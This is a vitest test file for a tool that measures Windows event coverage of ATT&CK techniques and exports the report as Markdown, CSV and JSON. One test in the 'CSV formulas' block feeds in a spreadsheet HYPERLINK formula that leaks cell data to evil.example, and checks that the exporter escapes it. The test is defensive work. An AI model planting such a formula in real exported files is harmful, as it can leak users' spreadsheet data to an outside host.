import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { computeCoverage, CSV_COLUMNS, csvRecords, type CoverageReport, formatReport, percent, toCsv, toJson, toMarkdown } from '../../scripts/coverage/index.ts';
import { FIXTURE } from './fixture.ts';

const report = computeCoverage(FIXTURE, ['Sysmon:1', 'Security:4688']);

describe('Markdown', () => {
  const md = toMarkdown(report);

  it('has the headline, the convention and the per-tactic table in matrix order', () => {
    expect(md.startsWith('# Windows event coverage — ATT&CK 42.1\n')).toBe(true);
    expect(md).toContain('**4** of 9 techniques with a mapped Windows event are seen (44.4%); 4 of all 11 Windows techniques (36.4%).');
    expect(md).toContain('_Counting: Techniques and sub-techniques are counted separately');
    const rows = md.split('\n').filter((l) => /^\| [A-Z*].*\(TA\d{4}\)|^\| \*\*All/.test(l));
    expect(rows).toEqual([
      '| Reconnaissance (TA0043) | 0 | 0 | 0 | – | – |',
      '| Execution (TA0002) | 3 | 3 | 4 | 100.0% | 75.0% |',
      '| Persistence (TA0003) | 1 | 4 | 6 | 25.0% | 16.7% |',
      '| Privilege Escalation (TA0004) | 1 | 4 | 6 | 25.0% | 16.7% |',
      '| Defense Evasion (TA0005) | 0 | 2 | 2 | 0.0% | 0.0% |',
      '| Credential Access (TA0006) | 1 | 2 | 2 | 50.0% | 50.0% |',
      '| **All tactics** (distinct techniques) | 4 | 9 | 11 | 44.4% | 36.4% |',
    ]);
  });

  it('lists next best events, seen techniques with their events, unseen and unmapped ones', () => {
    expect(md).toContain('| 1 | `Security:1` | Audit event one | 1 | 5 (55.6%) | T1078 |');
    expect(md).toContain('| T1059 | Command and Scripting Interpreter | Execution | Security:4688, Sysmon:1 |');
    expect(md).toContain('| T1078 | Valid Accounts | Persistence, Privilege Escalation, Defense Evasion | Security:1, Security:4624 |');
    expect(md).toContain('## Techniques with no mapped Windows event (2)');
    expect(md).toContain('| T1543 | Create or Modify System Process | Persistence, Privilege Escalation |');
  });

  it('escapes table cells', () => {
    const r: CoverageReport = { ...report, seen: [{ ...report.seen[0]!, name: 'A | B' }] };
    expect(toMarkdown(r)).toContain('| A \\| B |');
  });
});

describe('CSV', () => {
  const csv = toCsv(report);
  const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });

  it('parses back with the declared columns', () => {
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual([...CSV_COLUMNS]);
  });

  it('holds the tactic counts, the total, every technique and the next-best list', () => {
    const rows = parsed.data;
    const tactics = rows.filter((r) => r.section === 'tactic');
    expect(tactics.map((r) => [r.rank, r.id, r.tactics, r.seen, r.mapped, r.all])).toEqual(
      report.tactics.map((t, i) => [String(i + 1), t.id, t.shortname, String(t.seen), String(t.mapped), String(t.total)]),
    );
    expect(rows.filter((r) => r.section === 'total').map((r) => [r.seen, r.mapped, r.all])).toEqual([['4', '9', '11']]);
    const techniques = rows.filter((r) => r.section === 'technique');
    expect(techniques).toHaveLength(FIXTURE.techniques.length);
    expect(techniques.find((r) => r.id === 'T1059')).toMatchObject({ status: 'seen', events: 'Security:4688;Sysmon:1', tactics: 'execution' });
    expect(techniques.find((r) => r.id === 'T1078')).toMatchObject({ status: 'not-seen', events: 'Security:1;Security:4624', tactics: 'persistence;privilege-escalation;defense-evasion' });
    expect(techniques.find((r) => r.id === 'T1053')).toMatchObject({ status: 'unmapped', events: '' });
    const next = rows.filter((r) => r.section === 'next-best');
    expect(next.map((r) => [r.rank, r.id, r.adds, r.seen, r.techniques])).toEqual(report.nextBest.map((n) => [String(n.rank), n.key, String(n.adds.length), String(n.seenAfter), n.adds.join(';')]));
  });

  it('quotes fields with commas and quotes', () => {
    const r: CoverageReport = { ...report, seen: [{ ...report.seen[0]!, name: 'Say "hi", then go' }] };
    const back = Papa.parse<Record<string, string>>(toCsv(r), { header: true, skipEmptyLines: true });
    expect(back.data.find((x) => x.section === 'technique' && x.id === report.seen[0]!.id)?.name).toBe('Say "hi", then go');
  });
});

describe('CSV formulas', () => {
  it('writes a name that starts with = + - @ as text: a leading quote, as papaparse’s escapeFormulae does', () => {
    const evil = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1', '-2', '@x'];
    const r: CoverageReport = { ...report, seen: evil.map((name, i) => ({ ...report.seen[0]!, id: `T900${i}`, name })) };
    const csv = toCsv(r);
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"');
    expect(csv).toContain(',"\'+1",');
    expect(csv).not.toMatch(/(^|,)[=+@-]/m);
    const back = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(back.data.filter((x) => x.section === 'technique' && x.id?.startsWith('T900')).map((x) => x.name)).toEqual(evil.map((n) => `'${n}`));
  });

  it('leaves the fixture’s CSV as papaparse wrote it before (no field starts with a formula character)', () => {
    expect(toCsv(report)).toBe(`${Papa.unparse(csvRecords(report), { columns: [...CSV_COLUMNS], newline: '\n' })}\n`);
  });
});

describe('JSON', () => {
  it('is the report, with every field', () => {
    const back = JSON.parse(toJson(report)) as CoverageReport;
    expect(Object.keys(back)).toEqual(['attackVersion', 'convention', 'events', 'totals', 'tactics', 'seen', 'unseen', 'unmapped', 'nextBest']);
    expect(back).toEqual(report);
    expect(back.nextBest[0]).toEqual({ rank: 1, key: 'Security:1', log: 'Security', eventId: '1', name: 'Audit event one', adds: ['T1078'], seenAfter: 5 });
  });
});

describe('formatReport', () => {
  it('dispatches on the format', () => {
    expect(formatReport(report, 'md')).toBe(toMarkdown(report));
    expect(formatReport(report, 'csv')).toBe(toCsv(report));
    expect(formatReport(report, 'json')).toBe(toJson(report));
  });

  it('percent handles an empty denominator', () => {
    expect(percent(0, 0)).toBe('–');
    expect(percent(1, 3)).toBe('33.3%');
  });
});
